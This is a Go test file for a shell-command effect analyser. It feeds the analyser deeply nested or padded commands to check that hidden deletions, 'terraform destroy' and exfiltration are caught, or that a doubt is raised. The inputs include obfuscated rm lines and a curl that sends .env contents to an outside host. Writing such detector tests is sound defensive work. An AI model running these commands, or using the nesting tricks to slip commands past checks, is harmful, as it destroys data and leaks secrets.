package effects

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/trammel-dev/trammel/effects/model"
)

// code.md, mutations ("too-deep code is silent"), design 3a: every limit is
// tripped with something harmful at the end, which is seen or leaves a doubt that
// something was not looked at.
func TestLimitsForgetNothing(t *testing.T) {
	nested := func(open, inner, end string, n int) string {
		return strings.Repeat(open, n) + inner + strings.Repeat(end, n)
	}
	scripts := "export S0='rm /srv/x'; "
	for i := range 40 {
		scripts += "export S" + strconv.Itoa(i+1) + "='sh -c \"$S" + strconv.Itoa(i) + "\"'; "
	}
	functions, mounts, vars := "", "", ""
	for i := range 40 {
		n := strconv.Itoa(i)
		functions += "f" + n + "() { f" + strconv.Itoa(i+1) + " " + n + "; }; "
	}
	for i := range 70 {
		mounts += " -v /m" + strconv.Itoa(i) + ":/c" + strconv.Itoa(i)
		vars += " $V" + strconv.Itoa(i)
	}
	ways := ""
	for _, v := range "abcdef" {
		ways += "if x; then " + string(v) + "=1; else " + string(v) + "=2; fi; "
	}
	removed := func(s *Set) bool {
		return slices.ContainsFunc(s.Files, func(f File) bool { return f.Op == Delete && strings.HasPrefix(f.Path.Abs, "/srv/x") })
	}
	runs := func(program string, args ...string) func(*Set) bool {
		return func(s *Set) bool {
			return slices.ContainsFunc(s.Runs, func(r Run) bool {
				return r.Program == program && slices.ContainsFunc(r.Args, func(w Word) bool { return slices.Contains(args, w.Text) })
			})
		}
	}
	for _, c := range []struct {
		name, line string
		seen       func(*Set) bool // nil: it cannot be, and a doubt has to say so
	}{
		{"arguments of printf", `eval "$(printf '%s\n' \#{1..256} 'rm -rf /srv/x')"`, removed},
		{"words of xargs", `printf '%s\n' {1..256} /srv/x | xargs rm`, removed},
		{"too many words of xargs", `printf '%s\n' {1..1000} {1..1000} /srv/x | xargs rm`, nil},
		{"rounds", `for c in {1..64} destroy; do terraform $c -auto-approve; done`, runs("terraform", "destroy")},
		{"too many rounds", `for c in {1..1000} {1..1000} destroy; do terraform $c -auto-approve; done`, nil},
		{"too many lines", `printf '%s\n' {1..1000} {1..1000} destroy | while read c; do terraform $c; done`, nil},
		{"roots of find", `find /a /b /c /d /e /f /g /h /i /j /srv/x -exec rm {} \;`, removed},
		{"scripts in scripts", scripts + `sh -c "$S40"`, nil},
		{"fewer scripts in scripts", scripts + `sh -c "$S12"`, removed},
		{"eval", strings.Repeat("eval ", 40) + "rm /srv/x", nil},
		{"builtins", strings.Repeat("command ", 40) + "rm /srv/x", nil},
		{"wrappers", strings.Repeat("nice ", 40) + "rm /srv/x", nil},
		{"substitutions", nested("$(", "rm /srv/x", ")", 40), nil},
		{"functions", functions + "f40() { rm /srv/x; }; f0", nil},
		{"powershell", nested("pwsh -c ", "rm /srv/x", "", 40), nil},
		{"mounts", "docker run" + mounts + " -v /srv:/s img rm /s/x", nil},
		{"braces", "rm {1..2000} /srv/x", removed},
		{"ways", ways + "rm $a$b$c$d$e$f", nil},
		{"doubts before it", strings.Repeat("$A x; ", 400) + strings.Repeat("eval ", 40) + "rm /srv/x", nil},
		{"too long", "rm /srv/x; " + strings.Repeat("true; ", 50_000), nil},
		{"too much work", nested("for i in {1..900}; do ", "true", "; done", 3) + "; rm /srv/x", nil},
	} {
		s := effects(c.line)
		if c.seen != nil && c.seen(s) {
			continue
		}
		if !slices.ContainsFunc(s.Doubts, func(d model.Doubt) bool { return d.Code == "size" || d.Code == "depth" || d.Code == "syntax" }) {
			t.Errorf("%s: not seen, and no doubt:\n%.400s", c.name, show(s))
		} else if c.seen != nil {
			t.Errorf("%s: not seen", c.name)
		}
	}
	if s := effects("echo" + vars); !slices.Contains(s.Env, "*") || len(s.Env) > 65 {
		t.Errorf("of 70 variables that are read: %v", s.Env)
	}
	if s := effects(`curl -d "` + strings.Repeat("$(true)", 40) + `$(cat .env)" https://x`); !slices.Contains(s.Runs[len(s.Runs)-1].Uses, 40) {
		t.Errorf("the last of 41 substitutions is not used: %v", s.Runs[len(s.Runs)-1].Uses)
	}
	if s := effects(`for i in $(seq 1 5000); do echo $i; done`); !s.Full() {
		t.Errorf("a long count leaves doubts: %v", s.Doubts)
	}
}
